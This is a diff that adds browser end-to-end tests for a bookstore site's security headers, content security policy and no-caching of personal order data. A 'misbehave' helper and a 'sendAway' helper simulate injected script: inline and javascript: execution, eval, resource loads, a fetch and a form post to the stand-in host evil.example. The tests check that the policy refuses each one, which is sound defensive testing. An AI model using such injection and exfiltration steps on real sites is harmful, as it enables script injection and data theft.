@@ -1,0 +1,104 @@
+import { apiPaths } from '@bookstore/contract/apiPaths';
+import { openDashboard } from './dashboard.ts';
+import { expect, test } from './fixtures.ts';
+import { newCustomer, signIn } from './people.ts';
+import { placeOrder, seededBooks } from './shopData.ts';
+import { visit } from './visit.ts';
+
+// E42, E43, E44
+test('every document of the shop comes with the strict policy', async ({ request }) => {
+  for (const path of ['/', '/about', '/admin', '/dashboard/orders', '/no/such/page']) {
+    const headers = (await request.get(path)).headers();
+    expect(headers, path).toMatchObject({
+      'content-security-policy': expect.stringMatching(
+        /default-src 'none'; script-src 'self' https:\/\/apis\.google\.com; .*object-src 'none'; base-uri 'none'; .*frame-ancestors 'none'$/,
+      ),
+      'cross-origin-opener-policy': 'same-origin-allow-popups',
+      'x-content-type-options': 'nosniff',
+    });
+  }
+});
+
+/** What a script could try that got into a page; none of it may have an effect. */
+async function misbehave(): Promise<void> {
+  const add = (name: string, properties: object, text = '') => {
+    const element = Object.assign(document.createElement(name), properties);
+    element.textContent = text;
+    document.body.append(element);
+    return element;
+  };
+  const ran = 'document.documentElement.dataset.ran = "yes"';
+  add('script', {}, ran);
+  add('button', {}).setAttribute('onclick', ran);
+  document.querySelector<HTMLElement>('[onclick]')?.click();
+  add('a', { href: `javascript:${ran}` }).click();
+  // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
+  setTimeout(ran);
+  add('script', { src: 'https://evil.example/a.js' });
+  add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });
+  add('iframe', { src: 'https://evil.example/' });
+  add('object', { data: 'https://evil.example/a.swf' });
+  add('base', { href: 'https://evil.example/' });
+  await fetch('https://evil.example/').catch(() => undefined);
+}
+
+/** Apart from the rest: a test waits for the end of a navigation before it looks at the page again. */
+function sendAway(): void {
+  const form = document.createElement('form');
+  Object.assign(form, { action: 'https://evil.example/', method: 'post' });
+  document.body.append(form);
+  form.submit();
+}
+
+// E42
+test('what a page of the shop does not need is refused, and every breach is seen', async ({ page, watched }) => {
+  await page.goto('/about');
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('About');
+  await page.evaluate(misbehave);
+  const breaches = [
+    'script-src-elem inline',
+    'script-src-attr inline',
+    'script-src eval',
+    'script-src-elem https://evil.example/a.js',
+    'style-src-elem https://evil.example/a.css',
+    'frame-src https://evil.example',
+    'object-src https://evil.example',
+    'base-uri https://evil.example/',
+    'connect-src https://evil.example/',
+  ];
+  for (const breach of breaches) {
+    await expect.poll(() => watched.violations).toContain(`Refused by the policy: ${breach}`);
+  }
+  await expect(page.locator('html')).not.toHaveAttribute('data-ran');
+  await page.evaluate(sendAway);
+  await expect.poll(() => watched.violations).toContain('Refused by the policy: form-action https://evil.example/');
+  expect(watched.foreignRequests).toEqual([]);
+  watched.violations.length = 0;
+});
+
+// E50
+test('nothing personal is stored by the browser: no service worker, no cache, and answers that say so', async ({
+  page,
+}) => {
+  const customer = await newCustomer();
+  await placeOrder(page.request, customer, await seededBooks(page.request, 1));
+  await signIn(page, customer);
+  for (const role of ['customer', 'admin']) {
+    const isPersonal = (url: string) => new URL(url).pathname.startsWith('/api/orders');
+    const answered = page.waitForResponse((response) => isPersonal(response.url()));
+    if (role === 'customer') await visit(page, '/orders');
+    else await openDashboard(page, '/dashboard/orders');
+    const response = await answered;
+    expect(response.request().headers().authorization).toMatch(/^Bearer /);
+    expect(response.headers()['cache-control']).toBe('private, no-store');
+    expect(response.headers().vary).toContain('Authorization');
+  }
+  const list = await page.request.get(apiPaths.books);
+  expect(list.headers()['cache-control']).toBe('private, no-cache');
+  const kept = await page.evaluate(async () => ({
+    workers: (await navigator.serviceWorker.getRegistrations()).length,
+    caches: await caches.keys(),
+    cookies: document.cookie,
+  }));
+  expect(kept).toEqual({ workers: 0, caches: [], cookies: '' });
+});
